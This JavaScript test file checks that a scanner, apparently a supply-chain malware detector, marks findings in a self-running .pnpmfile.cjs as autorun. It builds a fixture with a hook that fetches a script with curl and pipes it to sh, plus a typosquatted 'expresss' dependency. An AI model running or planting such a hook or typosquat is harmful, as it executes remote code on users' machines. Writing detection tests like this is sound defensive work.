import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { scan } from './scan.js';

describe('scan: findings in self-running autorun files weigh as autorun', () => {
  const dir = mkdtempSync(join(tmpdir(), 'lurescan-selfrun-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('marks a .pnpmfile.cjs finding autorun, and a package.json dependency finding not', async () => {
    mkdirSync(join(dir, 'p'));
    writeFileSync(join(dir, 'p', 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { 'expresss': '^4.0.0' } }));
    writeFileSync(join(dir, 'p', '.pnpmfile.cjs'), "require('child_process').exec('curl -s http://203.0.113.12/p | sh');\nmodule.exports = { hooks: {} };\n");
    const r = await scan(join(dir, 'p'), { threads: 0 });
    const inHook = r.findings.filter((f) => f.file === '.pnpmfile.cjs');
    assert.ok(inHook.length > 0, 'the pnpmfile has findings');
    assert.ok(inHook.every((f) => f.autorun === true), 'pnpmfile findings are autorun');
    const inManifest = r.findings.filter((f) => f.file === 'package.json');
    assert.ok(inManifest.every((f) => !f.autorun), 'package.json findings are not autorun');
  });
});
